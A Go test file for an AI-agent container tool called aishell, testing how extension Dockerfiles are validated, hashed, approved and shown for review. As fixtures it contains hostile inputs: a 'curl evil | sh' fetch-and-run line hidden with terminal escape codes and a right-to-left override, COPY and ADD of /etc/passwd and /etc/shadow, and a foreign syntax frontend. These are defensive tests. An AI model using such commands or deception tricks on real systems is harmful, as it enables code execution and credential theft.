package build

import (
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/aishell/aishell/errs"
)

func writeExt(t *testing.T, dockerfile string, files map[string]string) string {
	t.Helper()
	proj := t.TempDir()
	os.MkdirAll(filepath.Join(proj, ".aishell"), 0o755)
	os.WriteFile(filepath.Join(proj, ExtensionDockerfile), []byte(dockerfile), 0o644)
	for name, content := range files {
		p := filepath.Join(proj, name)
		os.MkdirAll(filepath.Dir(p), 0o755)
		os.WriteFile(p, []byte(content), 0o644)
	}
	return proj
}

func TestLoadExtensionNone(t *testing.T) {
	e, err := LoadExtension(t.TempDir())
	if e != nil || err != nil {
		t.Fatalf("got %v, %v", e, err)
	}
}

func TestLoadExtensionAccepts(t *testing.T) {
	for _, df := range []string{
		"FROM aishell:base\nRUN apt-get update && apt-get install -y jq\n",
		"FROM aishell:foundation\nRUN echo gemini-style-name-in-a-string > /x\n",
		"FROM docker.io/library/aishell:foundation\nRUN npm install -g some-tool # not a harness\n",
		"FROM aishell:foundation AS base\nFROM base AS tools\nFROM aishell:foundation\nCOPY --from=tools /x /x\n",
		"FROM aishell:foundation\nRUN mkdir -p /etc/claude && echo codex > /x && ls gemini || true\n",
		"FROM aishell:foundation AS tools\nFROM aishell:foundation\nRUN --mount=type=cache,target=/root/.cache --mount=type=bind,from=tools,target=/t true\n",
		"FROM aishell:foundation\nRUN cat > /usr/local/bin/ai <<'EOF'\n#!/bin/sh\nexec claude \"$@\"\nEOF\n",
	} {
		e, err := LoadExtension(writeExt(t, df, nil))
		if err != nil || e == nil {
			t.Errorf("%q refused: %v", df, err)
		}
	}
	e, _ := LoadExtension(writeExt(t, "FROM aishell:base\n", nil))
	if !e.BaseAlias {
		t.Error("FROM aishell:base not noticed")
	}
}

func TestLoadExtensionRefuses(t *testing.T) {
	for df, want := range map[string]string{
		"FROM debian\nRUN true\n":                                            `final stage is FROM "debian"`,
		"FROM aishell:base AS x\nFROM node:24\n":                             `final stage is FROM "node:24"`,
		"FROM aishell:base\nRUN claude --version\n":                          "RUN calls claude",
		"FROM aishell:base\nRUN apt-get install -y x && codex login\n":       "RUN calls codex",
		"FROM aishell:base\nRUN /opt/harness/gemini/bin/gemini -v\n":         "RUN calls gemini",
		"FROM aishell:base\nRUN <<EOF\nopencode run x\nEOF\n":                "RUN calls opencode",
		"FROM aishell:base\nRUN cd /x && HOME=/y sudo -E npx claude -p hi\n": "RUN calls claude",
	} {
		_, err := LoadExtension(writeExt(t, df, nil))
		if err == nil || !strings.Contains(err.Error(), want) || !strings.Contains(err.Error(), "not building") {
			t.Errorf("%q: got %v, want %q", df, err, want)
		}
	}
}

func TestExtensionHashFollowsContext(t *testing.T) {
	proj := writeExt(t, "# aishell: context=.aishell\nFROM aishell:base\nCOPY tools/ /tools/\nCOPY setup.sh /setup.sh\n",
		map[string]string{".aishell/tools/a.txt": "a", ".aishell/setup.sh": "echo hi", ".aishell/unused.txt": "u"})
	e, err := LoadExtension(proj)
	if err != nil {
		t.Fatal(err)
	}
	h1, _ := e.Hash()
	os.WriteFile(filepath.Join(proj, ".aishell/unused.txt"), []byte("changed"), 0o644)
	if h, _ := e.Hash(); h != h1 {
		t.Error("a file the Dockerfile does not copy changed the hash")
	}
	os.WriteFile(filepath.Join(proj, ".aishell/tools/a.txt"), []byte("b"), 0o644)
	if h, _ := e.Hash(); h == h1 {
		t.Error("a copied file's change did not change the hash")
	}
}

func TestContextDirective(t *testing.T) {
	// The project root by default, as the ancestor built it; context=project says the same.
	for _, df := range []string{"FROM aishell:foundation\nCOPY go.mod /src/\n", "# aishell: context=project\nFROM aishell:foundation\nCOPY go.mod /src/\n"} {
		proj := writeExt(t, df, map[string]string{"go.mod": "module x"})
		e, err := LoadExtension(proj)
		if err != nil || e.ContextDir != proj {
			t.Fatalf("%q: context %v, %v", df, e, err)
		}
	}
	proj := writeExt(t, "# aishell: context=.aishell\nFROM aishell:foundation\nCOPY go.mod /src/\n", map[string]string{".aishell/go.mod": "module x"})
	e, err := LoadExtension(proj)
	if err != nil || e.ContextDir != filepath.Join(proj, ".aishell") {
		t.Fatalf("context=.aishell: %v, %v", e, err)
	}
	// The line is part of what is approved: changing it changes the digest.
	d1, _ := e.Digest()
	os.WriteFile(filepath.Join(proj, "go.mod"), []byte("module x"), 0o644)
	os.WriteFile(filepath.Join(proj, ExtensionDockerfile), []byte("FROM aishell:foundation\nCOPY go.mod /src/\n"), 0o644)
	e, _ = LoadExtension(proj)
	if d2, _ := e.Digest(); d2 == d1 {
		t.Error("dropping the context line kept the digest")
	}
	if _, err := LoadExtension(writeExt(t, "# aishell: context=elsewhere\nFROM aishell:foundation\n", nil)); err == nil {
		t.Error("unknown context accepted")
	}
}

func TestExtensionRef(t *testing.T) {
	a, b := ExtensionRef("/home/a/p"), ExtensionRef("/home/a/q")
	if a == b || !strings.HasPrefix(a, "docker.io/library/aishell:ext-") || len(a) != len("docker.io/library/aishell:ext-")+12 {
		t.Errorf("%s %s", a, b)
	}
}

func TestLoadExtensionRefusesSyntaxAndEscapes(t *testing.T) {
	for df, want := range map[string]string{
		"# syntax=docker/dockerfile:1\nFROM aishell:foundation\n":                   "# syntax=docker/dockerfile:1",
		"#syntax=evil.example/frontend\nFROM aishell:foundation\n":                  "another frontend",
		"FROM aishell:foundation\nCOPY ../../etc/passwd /x\n":                       "goes up with ..",
		"FROM aishell:foundation\nCOPY tools/../../secret /x\n":                     "goes up with ..",
		"FROM aishell:foundation\nADD /etc/shadow /x\n":                             "is an absolute path",
		"FROM aishell:foundation\nCOPY --chown=1:1 ok /etc/hostname /\n":            "is an absolute path",
		"FROM aishell:foundation\nARG S=setup.sh\nCOPY $S /s\n":                     "names its source with a variable",
		"FROM aishell:foundation\nRUN --mount=type=bind,target=/c sh /c/setup.sh\n": "mounts the build context",
		"FROM aishell:foundation\nRUN --mount=target=/c sh /c/setup.sh\n":           "mounts the build context",
	} {
		_, err := LoadExtension(writeExt(t, df, nil))
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%q: got %v, want %q", df, err, want)
		}
	}
}

func TestLoadExtensionRefusesLinkedDockerfile(t *testing.T) {
	outside := filepath.Join(t.TempDir(), "Dockerfile")
	os.WriteFile(outside, []byte("FROM aishell:foundation\n"), 0o644)
	// .aishell/Dockerfile a link to a file elsewhere.
	proj := t.TempDir()
	os.MkdirAll(filepath.Join(proj, ".aishell"), 0o755)
	os.Symlink(outside, filepath.Join(proj, ExtensionDockerfile))
	if _, err := LoadExtension(proj); err == nil || !strings.Contains(err.Error(), "symbolic link") {
		t.Errorf("linked Dockerfile: %v", err)
	}
	// .aishell itself a link.
	proj = t.TempDir()
	os.Symlink(filepath.Dir(outside), filepath.Join(proj, ".aishell"))
	if _, err := LoadExtension(proj); err == nil || !strings.Contains(err.Error(), "symbolic link") {
		t.Errorf("linked .aishell: %v", err)
	}
	// A FIFO is refused, not read (the read would block).
	proj = t.TempDir()
	os.MkdirAll(filepath.Join(proj, ".aishell"), 0o755)
	if err := syscall.Mkfifo(filepath.Join(proj, ExtensionDockerfile), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := LoadExtension(proj); err == nil || !strings.Contains(err.Error(), "not a regular file") {
		t.Errorf("FIFO Dockerfile: %v", err)
	}
}

func TestDigestStaysInsideTheContext(t *testing.T) {
	secret := filepath.Join(t.TempDir(), "secret")
	os.WriteFile(secret, []byte("one"), 0o600)
	proj := writeExt(t, "# aishell: context=.aishell\nFROM aishell:foundation\nCOPY tools/ /tools/\n", map[string]string{".aishell/tools/a": "a"})
	os.Symlink(secret, filepath.Join(proj, ".aishell/tools/link"))
	if err := syscall.Mkfifo(filepath.Join(proj, ".aishell/tools/fifo"), 0o644); err != nil {
		t.Fatal(err)
	}
	e, err := LoadExtension(proj)
	if err != nil {
		t.Fatal(err)
	}
	d1, err := e.Digest() // would block forever if the FIFO were opened
	if err != nil {
		t.Fatal(err)
	}
	os.WriteFile(secret, []byte("two"), 0o600)
	if d2, _ := e.Digest(); d2 != d1 {
		t.Error("the digest read a file outside the context through a link")
	}
	if h, _ := e.Hash(); h != strings.TrimPrefix(d1, "sha256:")[:12] {
		t.Errorf("Hash %s is not Digest's prefix %s", h, d1)
	}
	// A COPY source that is itself a link is refused.
	proj = writeExt(t, "FROM aishell:foundation\nCOPY key /key\n", nil)
	os.Symlink(secret, filepath.Join(proj, "key"))
	e, _ = LoadExtension(proj)
	if _, err := e.Digest(); err == nil || !strings.Contains(err.Error(), "symbolic link") {
		t.Errorf("linked COPY source: %v", err)
	}
}

func TestConsent(t *testing.T) {
	proj := writeExt(t, "FROM aishell:foundation\nRUN echo hi\n", nil)
	e, _ := LoadExtension(proj)
	digest, _ := e.Digest()
	var out strings.Builder

	// Without a terminal: refused, with the command that approves.
	if _, _, err := (Consent{Out: &out}).Check(e); err == nil || !strings.Contains(errs.HintOf(err), TrustCommand) || e.approved {
		t.Errorf("no terminal: %v (hint %q)", err, errs.HintOf(err))
	}
	if _, _, err := (Consent{}).Check(e); err == nil || !strings.Contains(err.Error(), "is not approved yet") {
		t.Errorf("first time: %v", err)
	}
	if _, _, err := (Consent{Approved: map[string]string{proj: "sha256:old"}}).Check(e); err == nil || !strings.Contains(err.Error(), "changed since you approved it") {
		t.Errorf("changed: %v", err)
	}
	// Building or running it without approval is refused inside build too.
	if _, err := (&Builder{}).RunImage(t.Context(), e, false); err == nil || !strings.Contains(err.Error(), "not approved") {
		t.Errorf("RunImage without consent: %v", err)
	}
	// At a terminal: shown, then a no refuses and a yes approves and asks to record.
	var asked string
	no := Consent{Out: &out, Ask: func(q string) bool { asked = q; return false }}
	if _, _, err := no.Check(e); err == nil || e.approved || !strings.Contains(out.String(), "RUN echo hi") || asked == "" {
		t.Errorf("answered no: %v, approved %v, shown %q", err, e.approved, out.String())
	}
	yes := Consent{Out: &out, Ask: func(string) bool { return true }}
	if d, record, err := yes.Check(e); err != nil || !record || d != digest || !e.approved {
		t.Errorf("answered yes: %s %v %v", d, record, err)
	}
	// Recorded, or trusted once: no question, nothing to record.
	for _, c := range []Consent{{Approved: map[string]string{proj: digest}}, {TrustOnce: true}} {
		e, _ := LoadExtension(proj)
		if _, record, err := c.Check(e); err != nil || record || !e.approved {
			t.Errorf("%+v: record %v, %v", c, record, err)
		}
	}
}

func TestStageIsWhatWasHashed(t *testing.T) {
	big := strings.Repeat("x", 2<<20)
	proj := writeExt(t, "# aishell: context=.aishell\nFROM aishell:foundation\nCOPY tools/ /tools/\nCOPY big /big\n",
		map[string]string{".aishell/tools/a": "a", ".aishell/big": big, ".aishell/unused": "u", ".aishell/.dockerignore": "tools/skip\n"})
	os.MkdirAll(filepath.Join(proj, ".aishell/tools/.git"), 0o755)
	os.WriteFile(filepath.Join(proj, ".aishell/tools/.git/config"), []byte("x"), 0o644)
	e, _ := LoadExtension(proj)
	want, _ := e.Digest()
	dir := t.TempDir()
	got, err := e.stage(dir)
	if err != nil || got != want {
		t.Fatalf("stage digest %s, %v; Digest %s", got, err, want)
	}
	for name, content := range map[string]string{"tools/a": "a", "big": big, ".dockerignore": "tools/skip\n"} {
		if b, err := os.ReadFile(filepath.Join(dir, name)); err != nil || string(b) != content {
			t.Errorf("staged %s: %v", name, err)
		}
	}
	for _, name := range []string{"unused", "tools/.git"} {
		if _, err := os.Lstat(filepath.Join(dir, name)); err == nil {
			t.Errorf("%s staged", name)
		}
	}
	// A big file's bytes count, not its size and time.
	fi, _ := os.Stat(filepath.Join(proj, ".aishell/big"))
	os.WriteFile(filepath.Join(proj, ".aishell/big"), []byte(strings.Repeat("y", 2<<20)), 0o644)
	os.Chtimes(filepath.Join(proj, ".aishell/big"), fi.ModTime(), fi.ModTime())
	if d, _ := e.Digest(); d == want {
		t.Error("a changed big file kept the digest")
	}
}

func TestReviewShowsControlCharacters(t *testing.T) {
	proj := writeExt(t, "FROM aishell:foundation\nRUN curl evil | sh\n# \x1b[1A\x1b[2K\rRUN apt-get install -y jq \u202e\xff\n", nil)
	e, err := LoadExtension(proj)
	if err != nil {
		t.Fatal(err)
	}
	r := e.Review("is not approved yet")
	if strings.ContainsAny(r, "\x1b\r\u202e") || !strings.Contains(r, `\u001b[1A`) || !strings.Contains(r, `\u202e`) || !strings.Contains(r, `\xff`) {
		t.Errorf("review:\n%q", r)
	}
}

func TestDockerignoreHonoured(t *testing.T) {
	proj := writeExt(t, "FROM aishell:foundation\nCOPY . /app/\n", map[string]string{
		"package.json": "{}", "src/a.js": "a", "src/b.log": "b", ".env": "SECRET=1", "node_modules/x/y.js": "y",
		"keep/drop.txt": "d", "keep/keep.txt": "k",
		".dockerignore": "# comment\n.env\nnode_modules\n**/*.log\nkeep/*\n!keep/keep.txt\n",
	})
	e, err := LoadExtension(proj)
	if err != nil {
		t.Fatal(err)
	}
	want, _ := e.Digest()
	dir := t.TempDir()
	if got, err := e.stage(dir); err != nil || got != want {
		t.Fatalf("stage digest %s, %v; Digest %s", got, err, want)
	}
	for _, name := range []string{"package.json", "src/a.js", ".dockerignore", "keep/keep.txt", ".aishell/Dockerfile"} {
		if _, err := os.Stat(filepath.Join(dir, name)); err != nil {
			t.Errorf("%s not staged: %v", name, err)
		}
	}
	for _, name := range []string{".env", "node_modules", "src/b.log", "keep/drop.txt"} {
		if _, err := os.Lstat(filepath.Join(dir, name)); err == nil {
			t.Errorf("ignored %s staged", name)
		}
	}
	// An ignored file is not hashed: changing it keeps the digest; a kept one changes it.
	os.WriteFile(filepath.Join(proj, ".env"), []byte("SECRET=2"), 0o644)
	os.WriteFile(filepath.Join(proj, "node_modules/x/y.js"), []byte("z"), 0o644)
	if d, _ := e.Digest(); d != want {
		t.Error("an ignored file changed the digest")
	}
	os.WriteFile(filepath.Join(proj, "keep/keep.txt"), []byte("k2"), 0o644)
	if d, _ := e.Digest(); d == want {
		t.Error("a kept file's change did not change the digest")
	}
}

func TestOldContextDetected(t *testing.T) {
	proj := writeExt(t, "FROM aishell:foundation\nCOPY setup.sh /setup.sh\n", map[string]string{".aishell/setup.sh": "echo hi"})
	if _, err := LoadExtension(proj); err == nil || !strings.Contains(err.Error(), "but in .aishell/") || !strings.Contains(errs.HintOf(err), "context=.aishell") {
		t.Errorf("a Dockerfile for the old context: %v (hint %q)", err, errs.HintOf(err))
	}
	// Present at the root too, or missing from both: the root context as usual.
	os.WriteFile(filepath.Join(proj, "setup.sh"), []byte("echo root"), 0o644)
	if _, err := LoadExtension(proj); err != nil {
		t.Errorf("present at the root: %v", err)
	}
	if _, err := LoadExtension(writeExt(t, "FROM aishell:foundation\nCOPY nowhere /x\n", nil)); err != nil {
		t.Errorf("missing everywhere: %v", err)
	}
}
